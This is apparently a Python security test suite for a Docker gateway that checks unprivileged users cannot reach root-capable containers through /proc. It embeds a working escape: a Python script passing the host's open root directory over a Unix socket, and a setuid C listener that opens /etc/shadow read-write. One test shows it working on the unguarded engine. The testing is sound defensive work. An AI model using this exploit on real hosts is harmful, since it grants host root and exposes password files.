"""Root in a container, and a user who has a shell beside it.

Through /proc she reaches every process that is herself. From there she could connect to a socket inside and hand in
the host's root folder, opened: whoever takes it and is root, is root on the host. So what is herself must find nobody
but herself inside, and what may be root must be out of her reach, whatever uid its processes take.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from dev import people

from tests.engine.gateway.ground import IMAGE, PATIENCE_SECONDS, Ground, User, wait

pytestmark = [pytest.mark.engine, pytest.mark.root, pytest.mark.gcc]

SENDER = """
import array, os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
print(s.recv(100).decode())
"""
"""Hands the host's root folder, opened, to whoever listens on a socket."""

RECEIVER = r"""
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_un at = {AF_UNIX, "/tmp/s"};
    int s = socket(AF_UNIX, SOCK_STREAM, 0), c, fd;
    char byte[1], control[CMSG_SPACE(sizeof fd)], said[100];
    struct iovec part = {byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    message.msg_control = control; message.msg_controllen = sizeof control;
    bind(s, (void *)&at, sizeof at); chmod("/tmp/s", 0777); listen(s, 1); c = accept(s, 0, 0);
    recvmsg(c, &message, 0); memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    sprintf(said, "shadow %d as %d", openat(fd, "etc/shadow", O_RDWR) >= 0, getuid());
    write(c, said, strlen(said)); return 0;
}
"""
"""Takes an open folder and tries the file of passwords in it."""


REACHING = """
import json, os, sys
found = []
for name in ("root/etc", "cwd/", "fd/0", "ns/user", "ns/mnt", "exe", "environ", "maps", "mem"):
    for act in (os.listdir, lambda path: os.close(os.open(path, os.O_RDONLY))):
        try:
            act(f"/proc/{sys.argv[1]}/{name}")
        except OSError:
            continue
        found.append(name)
print(json.dumps(found))
"""
"""Everything a process opens to whoever the kernel takes for itself."""


def reached(person: people.Person, pid: int) -> set[str]:
    """What this person can open of a process."""
    done = person.run("/usr/bin/python3", "-c", REACHING, str(pid))
    assert done.code == 0, done.err
    return set(json.loads(done.out))


def processes(field: Ground, container: str) -> dict[int, tuple[int, int]]:
    """The processes of a container as the host has them, with real and effective uid."""
    rows = field.root("GET", f"/containers/{container}/top?ps_args=-eo+pid,ruid,euid").json["Processes"]
    return {int(pid): (int(real), int(effective)) for pid, real, effective in rows}


@pytest.fixture(scope="module")
def image(field: Ground, mallory: User) -> Iterator[str]:
    """An image of hers, made for the attack: /r listens as root, /hers and /alices would make one of them of root."""
    context = mallory.folder("handed")
    (context / "r.c").write_text(RECEIVER)
    subprocess.run(["gcc", "-static", "-o", context / "r", context / "r.c"], check=True)
    shutil.copy("/bin/busybox", context / "sleep")
    (context / "Dockerfile").write_text(
        f"FROM {IMAGE}\nCOPY r /r\nRUN chmod 4755 /r\nCOPY sleep /hers/sleep\nCOPY sleep /alices/sleep\n"
        f"RUN chown {mallory.uid}:{mallory.person.gid} /hers/sleep && chmod 6755 /hers/sleep\n"
        f"RUN chown {field.alice.uid}:{field.alice.person.gid} /alices/sleep && chmod 6755 /alices/sleep\n"
        f"RUN echo me:x:{mallory.uid}:{mallory.person.gid}::/:/bin/sh >> /etc/passwd\n"
        f"RUN echo {mallory.person.gid}:x:42:me >> /etc/group\n"
    )
    built = mallory.docker("build", "-q", "-t", "handed", str(context))
    assert built.code == 0, built.err
    yield "handed"
    field.clear_images(mallory.uid)


def listens(field: Ground, container: str) -> None:
    """Until the listener inside does."""
    pid = field.seen(container)["State"]["Pid"]
    wait(lambda: " 00010000 " in Path(f"/proc/{pid}/net/unix").read_text())


def two_of_hers(user: User, field: Ground, container: str) -> None:
    """Until two processes are inside, and both are herself."""
    wait(lambda: list(processes(field, container).values()) == [(user.uid, user.uid)] * 2)


def handed_in(mallory: User, pid: int) -> str:
    """What the listener inside said after she handed it the host's root folder through this process."""
    return mallory.person.run("/usr/bin/python3", "-c", SENDER, f"/proc/{pid}/root/tmp/s").out.strip()


def test_the_attack_works_where_nothing_stands_in_its_way(mallory: User, field: Ground, image: str) -> None:
    """Root starts the same container on the engine's own socket, in nobody's slice: there the attack succeeds."""
    found = field.root("GET", f"/images/{image}/json").json["Id"]
    made = field.root("POST", "/containers/create", {"Image": found, "Cmd": ["/r"]}).json["Id"]
    assert field.root("POST", f"/containers/{made}/start").status == 204
    listens(field, made)
    asked = {"Cmd": ["sleep", "600"], "User": f"{mallory.uid}:{mallory.person.gid}"}
    one = field.root("POST", f"/containers/{made}/exec", asked).json["Id"]
    field.root("POST", f"/exec/{one}/start", {"Detach": True})
    wait(lambda: mallory.uid in {real for real, _ in processes(field, made).values()})
    pids = [pid for pid, (real, _) in processes(field, made).items() if real == mallory.uid]
    assert "root/etc" in reached(mallory.person, pids[0])
    assert handed_in(mallory, pids[0]) == "shadow 1 as 0"


@pytest.mark.parametrize("user", ["", "0", "0:0", "root", "me", "65534", "1000"])
def test_e33_nobody_reaches_a_container_that_may_have_root(
    mallory: User, alice: User, field: Ground, image: str, user: str
) -> None:
    """Processes of hers by exec, by su and by setuid files of hers; none of them lets her in, nor alice."""
    made = mallory.create("", Image=image, Cmd=["/r"], User=user)
    container = made.json["Id"]
    assert mallory.call("POST", f"/v1.41/containers/{container}/start").status == 204
    for words in (["-u", f"{mallory.uid}:{mallory.person.gid}", container, "sleep", "600"],
                  ["-u", "0", container, "su", "me", "-c", "sleep 610"],
                  ["-u", "0", container, "/hers/sleep", "620"],
                  ["-u", "0", container, "/alices/sleep", "630"]):  # fmt: skip
        assert mallory.docker("exec", "-d", *words).code == 0
    listens(field, container)
    wait(lambda: (mallory.uid, mallory.uid) in processes(field, container).values())
    wait(lambda: alice.uid in {effective for _, effective in processes(field, container).values()})
    found = processes(field, container)
    for pid in found:
        assert reached(mallory.person, pid) == set()
        assert reached(alice.person, pid) == set()
        assert handed_in(mallory, pid) == ""


@pytest.mark.parametrize("group", ["", ":0", ":42"])
def test_e33_a_container_that_was_asked_to_be_hers_is(mallory: User, field: Ground, image: str, group: str) -> None:
    made = mallory.create("", Image=image, Cmd=["/r"], User=f"{mallory.uid}{group}")
    container = made.json["Id"]
    assert mallory.call("POST", f"/v1.41/containers/{container}/start").status == 204
    assert mallory.docker("exec", "-d", "-u", "0", container, "/alices/sleep", "630").code == 0
    listens(field, container)
    two_of_hers(mallory, field, container)
    found = processes(field, container)
    assert handed_in(mallory, next(iter(found))) == f"shadow 0 as {mallory.uid}"


def test_e21_with_a_folder_everything_is_hers(mallory: User, field: Ground, image: str) -> None:
    place = mallory.folder("shared-folder")
    made = mallory.create("", Image=image, Cmd=["/r"], User="0", HostConfig={"Binds": [f"{place}:/m"]})
    container = made.json["Id"]
    assert mallory.call("POST", f"/v1.41/containers/{container}/start").status == 204
    assert mallory.docker("exec", "-d", "-u", "0", container, "/alices/sleep", "630").code == 0
    listens(field, container)
    two_of_hers(mallory, field, container)
    found = processes(field, container)
    assert handed_in(mallory, next(iter(found))) == f"shadow 0 as {mallory.uid}"


KEEPER = "import os, sys, time; os.chdir(sys.argv[1]); print('there', flush=True); time.sleep(600)"


def test_e33_a_folder_of_a_volume_that_she_kept_open(mallory: User, field: Ground, image: str) -> None:
    """She stops the container that runs as her; the folder stays open, and root is to make a socket in it."""
    binds = {"Binds": ["kept:/v"]}
    before = mallory.create("", Image=image, Cmd=["/r"], HostConfig=binds).json["Id"]
    hers = mallory.create("", Image=image, Cmd=["sleep", "600"], User=f"{mallory.uid}:{mallory.person.gid}",
                          HostConfig=binds).json["Id"]  # fmt: skip
    assert mallory.call("POST", f"/v1.41/containers/{hers}/start").status == 204
    pid = field.seen(hers)["State"]["Pid"]
    wait(lambda: not Path(f"/proc/{pid}/comm").read_text().startswith("runc"))  # until then it is nobody's to look into
    inside, after = f"/proc/{pid}/root/v", ""
    keeper = mallory.person.start("/usr/bin/python3", "-c", KEEPER, inside, out=subprocess.PIPE)
    try:
        assert keeper.stdout is not None
        assert keeper.stdout.readline().strip() == "there"
        assert mallory.call("DELETE", f"/v1.41/containers/{hers}?force=1").status == 204
        started = mallory.call("POST", f"/v1.41/containers/{before}/start")
        assert (started.status, "The volume kept was in" in started.json["message"]) == (403, True), started.json
        assert not field.seen(before)["State"]["Running"]
        after = mallory.create("", Image=image, Cmd=["sleep", "600"], User="0", HostConfig=binds).json["Id"]
        assert mallory.call("POST", f"/v1.41/containers/{after}/start").status == 204
        assert set(processes(field, after).values()) == {(mallory.uid, mallory.uid)}
    finally:
        keeper.kill()
        keeper.communicate()
        mallory.docker("rm", "--force", before, after)
        assert mallory.docker("volume", "rm", "kept").code == 0


def test_e33_one_that_is_made_anew_was_nowhere(mallory: User, image: str) -> None:
    """The mark goes with its volume, and is not seen inside."""

    def uid(*flags: str) -> str:
        ran = mallory.docker("run", "--rm", "-v", "anew:/v", *flags, image, "sh", "-c", "id -u; ls -A /v")
        assert ran.code == 0, ran.err
        return ran.out.strip()

    hers = ("-u", f"{mallory.uid}:{mallory.person.gid}")
    assert [uid(), uid(*hers), uid()] == ["0", str(mallory.uid), str(mallory.uid)]
    assert mallory.docker("volume", "rm", "anew").code == 0
    assert uid() == "0"
    assert mallory.docker("volume", "rm", "anew").code == 0


def test_e33_nobody_reaches_a_step_of_a_build(mallory: User, image: str) -> None:
    """Steps run as root. While one does, a process of hers is in it."""
    context = mallory.folder("reached-build")
    (context / "Dockerfile").write_text(f"FROM {image}\nRUN su me -c 'sleep 600.875' & wait $!; id\n")
    command = ["docker", "build", "--no-cache", str(context)]
    person = people.person(mallory.person.login, DOCKER_HOST=f"unix://{mallory.gateway}", DOCKER_BUILDKIT="0")
    building = person.start(*command)
    try:
        wait(lambda: waiting(mallory) or building.poll() is not None)
        (pid,) = waiting(mallory)
        assert reached(mallory.person, pid) == set()
        os.kill(pid, signal.SIGTERM)
        building.wait(PATIENCE_SECONDS)
    finally:
        building.kill()
        building.wait()
    assert building.returncode == 0


def waiting(user: User) -> list[int]:
    """The process of hers that a step waits for."""
    looking = ["pgrep", "-u", str(user.uid), "-f", r"^sleep 600\.875$"]
    return [int(pid) for pid in subprocess.run(looking, capture_output=True, text=True).stdout.split()]


def test_groups_of_the_host(mallory: User, field: Ground, image: str) -> None:
    """runc takes a group's number for a name of the image's own list, and the image says which number that is."""
    gid = mallory.person.gid
    place = mallory.folder("grouped")
    for flags in (["-u", f"{mallory.uid}:{gid}"], ["-u", str(mallory.uid)], ["-v", f"{place}:/m"],
                  ["-v", f"{place}:/m", "--group-add", "42"]):  # fmt: skip
        done = mallory.docker("run", "-d", *flags, image, "sleep", "600")
        assert done.code == 0, done.err
        container = done.out.strip()
        assert mallory.docker("exec", "-d", container, "sleep", "610").code == 0
        two_of_hers(mallory, field, container)
        for pid, uids in processes(field, container).items():
            lines = dict(line.split(":\t", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
            assert uids == (mallory.uid, mallory.uid)
            assert lines["Gid"].split() == [str(gid)] * 4
            assert lines["Groups"].split() == []


def test_ordinary_images_run_as_they_are(mallory: User, image: str) -> None:
    """What images and people do with users: root at first, then a service's uid, or any other; files of anybody."""
    script = "touch /f && chown 1001:1001 /f && stat -c %u:%g /f && su me -c 'id -u' && id -u && chroot / id -g"
    ran = mallory.docker("run", "--rm", image, "sh", "-c", script)
    assert ran.out.split() == ["1001:1001", str(mallory.uid), "0", "0"], ran.err
    assert mallory.docker("run", "--rm", "-u", "1001:0", image, "id", "-u").out.strip() == "1001"
    assert mallory.docker("run", "--rm", "-u", "nobody", image, "id", "-u").out.strip() == "65534"
    assert mallory.docker("run", "--rm", "--group-add", "777", image, "id", "-u").out.strip() == "0"
